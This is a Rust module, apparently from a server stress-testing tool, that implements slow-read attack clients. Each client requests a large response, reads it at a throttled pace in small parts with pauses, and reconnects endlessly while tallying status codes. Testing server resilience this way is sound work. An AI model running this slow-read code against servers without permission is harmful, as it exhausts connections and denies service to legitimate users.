//! Clients that read large answers as slowly as the server allows, or just fast enough to be left alone.

use super::{Attacker, RETRY};
use crate::siege::client::request;
use std::io;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::sleep;

/// Most bytes that are read at once, then a pause.
const LARGEST_PART: usize = 2500;

/// What is read, and how slowly.
#[derive(Debug, Clone, Copy)]
pub(super) struct Reading {
    pub(super) path: &'static str,
    pub(super) headers: &'static str,
    /// Bytes per second.
    pub(super) pace: usize,
}

/// Reads the answer again and again.
pub(super) async fn read(attacker: Attacker, start: Duration, reading: Reading) {
    sleep(start).await;
    loop {
        attacker.tally.tried.fetch_add(1, Ordering::Relaxed);
        if read_once(&attacker, reading).await.is_err() {
            attacker.tally.count(None);
        }
        sleep(RETRY).await;
    }
}

async fn read_once(attacker: &Attacker, reading: Reading) -> io::Result<()> {
    let connection = attacker.client.with_small_buffer().connect().await?;
    let mut stream = connection.into_stream();
    let headers = format!("{}Connection: close\r\n", reading.headers);
    stream.write_all(request(attacker.client.server, reading.path, &headers).as_bytes()).await?;
    let mut part = vec![0; reading.pace.min(LARGEST_PART)];
    let pause = Duration::from_secs_f64(part.len() as f64 / reading.pace as f64);
    let mut is_counted = false;
    loop {
        let read = stream.read(&mut part).await?;
        if read == 0 {
            return if is_counted { Ok(()) } else { Err(io::ErrorKind::UnexpectedEof.into()) };
        }
        if !is_counted {
            attacker.tally.count(status_of(&part[..read]));
            is_counted = true;
        }
        sleep(pause).await;
    }
}

/// The status at the beginning of an answer.
fn status_of(answer: &[u8]) -> Option<u16> {
    std::str::from_utf8(answer.strip_prefix(b"HTTP/1.1 ")?.get(..3)?).ok()?.parse().ok()
}
